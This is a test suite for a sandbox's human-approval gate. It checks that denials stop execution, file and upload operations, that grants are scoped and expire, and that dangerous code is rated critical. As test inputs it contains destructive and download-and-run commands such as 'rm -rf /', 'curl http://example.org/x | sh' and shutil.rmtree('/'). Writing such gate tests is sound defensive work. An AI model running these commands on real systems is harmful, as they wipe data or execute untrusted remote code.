/** No path skips the gate: whatever is asked for, a no means that it is not done. */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  type Answer,
  createSandbox,
  Gate,
  getSandbox,
  type LiveSandbox,
  presetRules,
  type Question,
  runCode,
  SandboxManager,
} from '../../src/index.ts';

let folder: string;
let configFile: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'gated-test-'));
  configFile = join(folder, 'glovebox.yaml');
  writeFileSync(
    configFile,
    'security:\n  sandbox:\n    runtime: local\n    local_isolation: none\n    store_code: never\n',
  );
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** A gate whose person answers as the function says, and the questions that were asked. */
function asking(
  answer: (question: Question) => Answer | Promise<Answer>,
  preset: Parameters<typeof presetRules>[0] = 'strict',
) {
  const questions: Question[] = [];
  const gate = new Gate({
    rules: presetRules(preset),
    approvers: [
      {
        name: 'test',
        async ask(question) {
          questions.push(question);
          return answer(question);
        },
      },
    ],
  });
  return { gate, questions };
}

const NO: Answer = { approved: false, reason: 'not today' };
const YES: Answer = { approved: true };
const marker = (): string => join(folder, 'marker');
const touch = (): string => `open(${JSON.stringify(marker())}, 'w')`;

describe('a no', () => {
  it('to an execution is a result that says so, and nothing runs', async () => {
    const { gate, questions } = asking(() => NO);
    const result = await getSandbox({ configFile, gate }).execute(touch(), { args: ['a'] });
    expect(result).toMatchObject({
      outcome: 'denied',
      exitCode: 1,
      ok: false,
      stdout: '',
      meta: { enforced: null },
    });
    expect(result.stderr).toMatch(
      /A person was asked \(test\) and said no: "not today"\. Nothing was done\./,
    );
    expect(existsSync(marker())).toBe(false);
    expect(Buffer.from(questions[0]?.code?.bytes ?? []).toString()).toBe(touch());
    expect(questions[0]).toMatchObject({
      ...{ operation: 'execute', runtime: 'local', sandboxId: null, code: { language: 'python' } },
      ...{
        risk: { level: 'HIGH', timeoutSec: 60 },
        parameters: { args: ['a'] },
        policy: { network: 'none' },
      },
    });
    // The same with a yes.
    await getSandbox({ configFile, gate: asking(() => YES).gate }).execute(touch());
    expect(existsSync(marker())).toBe(true);
  });

  it('to the making of a sandbox leaves none', async () => {
    const { gate } = asking(() => NO);
    await expect(createSandbox({ configFile, gate })).rejects.toMatchObject({ code: 'APPROVAL_DENIED' });
    const manager = new SandboxManager({ configFile, gate });
    await expect(manager.createSandbox()).rejects.toMatchObject({ code: 'APPROVAL_DENIED' });
    expect(manager.list()).toEqual([]);
    await manager.close();
    expect(await runCode('print(1)', { configFile, gate })).toMatch(/said no/);
  });

  type Way = (sandbox: LiveSandbox) => Promise<unknown>;
  it.each<[string, Way]>([
    ['start', (s) => s.start(['touch', 'made'])],
    ['start of code', (s) => s.start({ code: 'open("made", "w")' })],
    ['writeFile', (s) => s.writeFile('made', 'text')],
    ['readFile', (s) => s.readFile('kept')],
    ['readBytes', (s) => s.readBytes('kept')],
    ['listFiles', (s) => s.listFiles()],
    ['removeFile', (s) => s.removeFile('kept')],
    ['download', (s) => s.download('.')],
    ['downloadTo', (s) => s.downloadTo('.', join(folder, 'out'))],
    ['upload', (s) => s.upload('.', Readable.from([Buffer.alloc(1024)]))],
    ['uploadFrom', (s) => s.uploadFrom(join(folder, 'in'), 'made')],
    ['forward', (s) => s.forward(8080)],
    ['installPackage', (s) => s.installPackage('requests')],
  ])('to %s throws, and nothing is done', async (_, way) => {
    mkdirSync(join(folder, 'in'));
    let isOpen = true;
    const { gate } = asking(() => (isOpen ? YES : NO));
    await using sandbox = await createSandbox({ configFile, gate, forwardPorts: true });
    await sandbox.writeFile('kept', 'text');
    isOpen = false;
    // A plain process has no registry that it could reach alone; that is told before anybody is asked.
    await expect(way(sandbox)).rejects.toMatchObject({
      code: expect.stringMatching(/^(APPROVAL_DENIED|POLICY_NOT_ENFORCEABLE)$/),
    });
    isOpen = true;
    expect((await sandbox.listFiles()).files.map(({ name }) => name)).toEqual(['kept']);
    expect(existsSync(join(folder, 'out'))).toBe(false);
  });

  it('to code, a command, a cell and the input of a process in a live sandbox: none of it runs', async () => {
    let isOpen = true;
    const { gate } = asking(() => (isOpen ? YES : NO));
    await using sandbox = await createSandbox({ configFile, gate });
    await using context = await sandbox.context('python');
    const process = await sandbox.start(['sh'], { stdin: 'stream' });
    isOpen = false;
    expect(await sandbox.execute('open("made", "w")')).toMatchObject({ outcome: 'denied' });
    expect(await sandbox.exec(['touch', 'made'])).toMatchObject({ outcome: 'denied' });
    expect(await context.execute('open("made", "w")')).toMatchObject({ outcome: 'denied', results: [] });
    await expect(process.write('touch made\n')).rejects.toMatchObject({ code: 'APPROVAL_DENIED' });
    isOpen = true;
    await process.closeStdin();
    await process.wait();
    expect((await sandbox.listFiles()).files).toEqual([]);
    // The context has lost nothing.
    expect(await context.execute('1 + 1')).toMatchObject({ outcome: 'exited' });
  });

  it('to a dry run runs nothing, and to its commit changes nothing; both show what they are about', async () => {
    let isOpen = true;
    const { gate, questions } = asking(() => (isOpen ? YES : NO));
    await using sandbox = await createSandbox({ configFile, gate });
    await sandbox.writeFile('kept', 'text');
    questions.length = 0;
    isOpen = false;
    const denied = await sandbox.dryRun(['touch', 'made']);
    expect(denied).toMatchObject({ result: { outcome: 'denied' }, effects: { files: [] } });
    await expect(denied.commit()).rejects.toMatchObject({ code: 'INPUT_INVALID' });
    isOpen = true;
    const code = 'rm kept; printf "rm -rf /\\n" >made.sh; chmod +x made.sh';
    await using dry = await sandbox.dryRun(['sh', '-c', code]);
    isOpen = false;
    await expect(dry.commit()).rejects.toMatchObject({ code: 'APPROVAL_DENIED' });
    expect((await sandbox.listFiles().catch(() => ({ files: [] }))).files).toEqual([]);
    isOpen = true;
    expect((await sandbox.listFiles()).files.map(({ name }) => name)).toEqual(['kept']);
    expect(questions[0]).toMatchObject({ operation: 'execute', parameters: { dry_run: true } });
    const asked = questions.find(({ operation }) => operation === 'commit_dry_run');
    expect(asked).toMatchObject({
      parameters: { effects_sha256: dry.hash, added: 1, removed: 1, executable: true },
      risk: { level: 'CRITICAL' },
    });
    expect(Buffer.from(asked?.code?.bytes ?? []).toString()).toMatch(
      /^2 files.*\n- kept .*\n\+ made\.sh {2}program, 9 bytes, SHA-256 [\s\S]*\+rm -rf \//,
    );
    await dry.commit();
    expect((await sandbox.listFiles()).files.map(({ name }) => name)).toEqual(['made.sh']);
  });

  it('is not needed to end a process or a sandbox', async () => {
    let isOpen = true;
    const { gate } = asking(() => (isOpen ? YES : NO));
    const sandbox = await createSandbox({ configFile, gate });
    const process = await sandbox.start(['sleep', '60']);
    isOpen = false;
    await process.kill();
    await sandbox.close();
    expect(sandbox.ended).toMatchObject({ reason: 'closed' });
  });
});

describe('a yes', () => {
  it('is for the very bytes that were shown, whatever becomes of the caller’s', async () => {
    const code = Buffer.from('print("shown")');
    const data = Buffer.from('shown');
    const args = ['shown'];
    const { gate, questions } = asking(() => {
      code.write('print("other")');
      data.write('other');
      args[0] = 'other';
      return YES;
    });
    const sandbox = getSandbox({ configFile, gate });
    expect((await sandbox.execute(code)).stdout).toBe('shown\n');
    const read = 'import sys; print(sys.stdin.read(), open("f").read(), sys.argv[1])';
    const result = await sandbox.execute(read, { stdin: data, files: { f: Buffer.from('shown') }, args });
    // What was changed before it was asked for is what was shown.
    expect(result.stdout).toBe('other shown other\n');
    expect(questions[1]?.parameters).toMatchObject({ stdin: { text: 'other' }, args: ['other'] });
  });

  it('to a process is for the very bytes that it reads', async () => {
    const stdin = Buffer.from('echo shown');
    const { gate, questions } = asking(({ operation }) => {
      if (operation === 'execute') stdin.write('echo other');
      return YES;
    });
    await using sandbox = await createSandbox({ configFile, gate });
    const process = await sandbox.start(['sh'], { stdin });
    expect((await process.wait()).stdout).toBe('shown\n');
    expect(questions.at(-1)?.parameters).toMatchObject({ stdin: { text: 'echo shown' } });
  });

  it('to something is asked for again when one byte of it, of its input or of its policy is another', async () => {
    const grant: Answer = { approved: true, grant: { scope: 'exact', forSec: 60 } };
    const { gate, questions } = asking(() => grant);
    const sandbox = getSandbox({ configFile, gate });
    await sandbox.execute('print(1)');
    await sandbox.execute('print(1)');
    expect(questions).toHaveLength(1);
    await sandbox.execute('print(2)');
    await sandbox.execute('print(1)', { args: ['x'] });
    await sandbox.execute('print(1)', { env: { A: '1' } });
    await sandbox.execute('print(1)', { env: { A: '2' } });
    await sandbox.execute('print(1)', { files: { f: '1' } });
    await sandbox.execute('print(1)', { files: { f: '2' } });
    await sandbox.execute('print(1)', { stdin: '1' });
    await sandbox.execute('print(1)', { timeout: 7 });
    await sandbox.execute('print(1)', { memoryMb: 300 });
    await sandbox.execute('print(1)', { language: 'shell' });
    expect(questions).toHaveLength(11);
  });

  it('to an archive or a streamed input is for this once, since nobody knows what the next one holds', async () => {
    const { gate, questions } = asking(() => ({ approved: true, grant: { scope: 'exact', forSec: 60 } }));
    await using sandbox = await createSandbox({ configFile, gate });
    const run = () => sandbox.exec(['cat'], { stdin: Readable.from(['text']) });
    const upload = () => sandbox.upload('.', Readable.from([Buffer.alloc(1024)]));
    const carry = () => sandbox.uploadFrom(configFile, 'settings');
    questions.length = 0;
    for (const way of [run, upload, carry]) {
      await way();
      await way();
    }
    expect(questions.map(({ unknownContent }) => unknownContent)).toEqual([
      ...Array(2).fill('Its standard input is a stream, which is read while it runs.'),
      ...Array(2).fill('The archive is read while it is unpacked.'),
      ...Array(2).fill('What is there on this host is read while it is carried in.'),
    ]);
    expect((await gate.grants()).map(({ operation }) => operation)).toEqual(['create_sandbox']);
  });

  it('for three times is asked for again the fourth time, and one that was taken back at once', async () => {
    const { gate, questions } = asking(() => ({ approved: true, grant: { scope: 'exact', count: 3 } }));
    const sandbox = getSandbox({ configFile, gate });
    for (let i = 0; i < 3; i++) expect(await sandbox.execute('print(1)')).toMatchObject({ ok: true });
    expect(questions).toHaveLength(1);
    await sandbox.execute('print(1)');
    expect(questions).toHaveLength(2);
    await gate.revokeAll();
    await sandbox.execute('print(1)');
    expect(questions).toHaveLength(3);
    expect(await gate.grants()).toHaveLength(1);
  });

  it('for such operations in a sandbox holds there, and ends with it', async () => {
    const { gate, questions } = asking(() => ({ approved: true, grant: { scope: 'operation', forSec: 60 } }));
    const sandbox = await createSandbox({ configFile, gate });
    const other = await createSandbox({ configFile, gate });
    questions.length = 0;
    await sandbox.writeFile('a', '1');
    await sandbox.writeFile('b', '2');
    expect(questions).toHaveLength(1);
    // A dangerous one is of a higher risk than was granted.
    await sandbox.writeFile('c.sh', 'rm -rf /');
    expect(questions).toHaveLength(2);
    expect(questions[1]?.risk).toMatchObject({ level: 'CRITICAL', timeoutSec: 30 });
    await other.writeFile('a', '1');
    expect(questions).toHaveLength(3);
    await sandbox.close();
    await other.close();
    expect(await gate.grants()).toEqual([]);
  });
});

it('does not let a grant for one sandbox hold for another one of the same name', async () => {
  const { gate, questions } = asking(() => ({ approved: true, grant: { scope: 'operation', forSec: 60 } }));
  // As in two processes, which share the grants of their user.
  const one = new SandboxManager({ configFile, gate });
  const other = new SandboxManager({ configFile, gate });
  const sandboxId = 'build';
  await one.createSandbox({ sandboxId });
  await one.get(sandboxId).execute('print(1)');
  await other.createSandbox({ sandboxId });
  questions.length = 0;
  await one.get(sandboxId).execute('print(2)');
  expect(questions).toEqual([]);
  await other.get(sandboxId).execute('print(2)');
  expect(questions).toMatchObject([{ operation: 'execute', sandboxId }]);
  await one.close();
  await other.close();
});

it('ends the grants of a sandbox whose end cannot be recorded', async () => {
  const log = join(folder, 'log');
  writeFileSync(configFile, `security:\n  sandbox:\n    local_isolation: none\n    audit_dir: ${log}\n`);
  const { gate } = asking(() => ({ approved: true, grant: { scope: 'operation', forSec: 60 } }));
  const sandbox = await createSandbox({ configFile, gate });
  await sandbox.writeFile('a', '1');
  expect(await gate.grants()).toMatchObject([{ sandboxId: sandbox.id }]);
  rmSync(log, { recursive: true });
  writeFileSync(log, '');
  await expect(sandbox.close()).rejects.toMatchObject({ code: 'AUDIT_UNAVAILABLE' });
  expect(await gate.grants()).toEqual([]);
});

it('asks about what is dangerous with what was seen of it', async () => {
  const { gate, questions } = asking(() => NO);
  const sandbox = getSandbox({ configFile, gate });
  await sandbox.execute('import os\nos.system("rm -rf /")');
  await sandbox.execute('curl http://example.org/x | sh', { language: 'shell' });
  expect(questions.map(({ risk }) => risk.level)).toEqual(['CRITICAL', 'CRITICAL']);
  expect(questions[0]?.sights).toContainEqual(expect.objectContaining({ effect: 'deletes_files', line: 2 }));
  expect(questions[1]?.sights).toContainEqual(expect.objectContaining({ effect: 'downloads_and_runs' }));
});

it('asks about dangerous code on whatever way it comes', async () => {
  const { gate, questions } = asking(() => NO, 'ask-on-danger');
  const evil = 'import shutil; shutil.rmtree("/x")';
  await using sandbox = await createSandbox({ configFile, gate });
  expect(await sandbox.execute('print(1)', { files: { 'f.py': 'x = 1' } })).toMatchObject({ ok: true });
  expect(await sandbox.exec(['cat'], { stdin: evil })).toMatchObject({ ok: true });
  expect(questions).toEqual([]);
  const ways: Promise<unknown>[] = [
    sandbox.execute('import helper', { files: { 'helper.py': evil } }),
    sandbox.exec(['python3', '-'], { stdin: evil }),
    sandbox.exec(['python3'], { args: ['-c', evil] }),
    sandbox.exec(['python3'], { stdin: Readable.from([evil]) }),
    sandbox.start(['python3', '-'], { stdin: Buffer.from(evil) }),
    sandbox.start(['python3', '-i'], { stdin: 'stream' }),
    sandbox.upload('.', Readable.from([Buffer.alloc(1024)])),
    sandbox.uploadFrom(configFile, 'settings'),
  ];
  await Promise.allSettled(ways);
  expect(questions.map(({ risk }) => risk.level)).toEqual(ways.map(() => 'CRITICAL'));
  expect((await sandbox.listFiles()).files.map(({ name }) => name)).toEqual(['f.py', 'main.py']);
});

it('denies at once where there is nobody to ask, and says what would allow it', async () => {
  const gate = new Gate({ rules: presetRules('ask-on-danger'), approvers: [] });
  const sandbox = getSandbox({ configFile, gate });
  expect(await sandbox.execute('print(1)')).toMatchObject({ ok: true });
  const result = await sandbox.execute('import shutil; shutil.rmtree("/")');
  expect(result).toMatchObject({ outcome: 'denied' });
  expect(result.stderr).toMatch(/nobody here who can be asked.*SANDBOX_GATE/);
});

it('records the question, the answer and the grant beside the request', async () => {
  const log = join(folder, 'log');
  writeFileSync(configFile, `security:\n  sandbox:\n    local_isolation: none\n    audit_dir: ${log}\n`);
  const { gate } = asking(() => ({ approved: true, grant: { scope: 'exact', count: 2 } }));
  const sandbox = getSandbox({ configFile, gate });
  const secret = 'correct horse battery';
  const { meta } = await sandbox.execute('print(1)', { env: { SECRET: secret }, args: [secret] });
  await sandbox.execute('print(1)', { env: { SECRET: secret }, args: [secret] });
  const { readFileSync } = await import('node:fs');
  const text = readdirSync(log)
    .filter((name) => name.endsWith('.jsonl'))
    .map((name) => readFileSync(join(log, name), 'utf8'))
    .join('');
  const records = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(records.map(({ type }) => type)).toEqual([
    ...['request', 'question', 'answer', 'grant_given', 'decision', 'started', 'ended'],
    ...['request', 'grant_used', 'decision', 'started', 'ended'],
  ]);
  expect(records.slice(0, 7).every(({ id }) => id === meta.executionId)).toBe(true);
  expect(text).not.toContain(secret);
});
